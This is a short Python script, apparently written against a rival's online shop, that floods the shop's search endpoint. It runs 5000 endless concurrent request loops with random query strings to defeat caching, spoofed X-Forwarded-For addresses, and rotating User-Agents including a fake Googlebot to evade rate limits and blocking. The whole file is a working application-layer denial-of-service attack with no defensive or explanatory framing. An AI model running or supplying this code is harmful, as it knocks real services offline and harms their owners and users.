import asyncio
import random
import string

import aiohttp

TARGET = "https://shop.rival.example/search"
UAS = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0)", "Googlebot/2.1"]


def junk(n=12):
    return "".join(random.choices(string.ascii_letters, k=n))


async def hit(session):
    while True:
        headers = {
            "User-Agent": random.choice(UAS),
            "X-Forwarded-For": ".".join(str(random.randint(1, 254)) for _ in range(4)),
            "Cache-Control": "no-cache",
        }
        try:
            async with session.get(TARGET, params={"q": junk()}, headers=headers) as r:
                await r.read()
        except aiohttp.ClientError:
            pass


async def main():
    conn = aiohttp.TCPConnector(limit=0)
    async with aiohttp.ClientSession(connector=conn) as s:
        await asyncio.gather(*(hit(s) for _ in range(5000)))

asyncio.run(main())
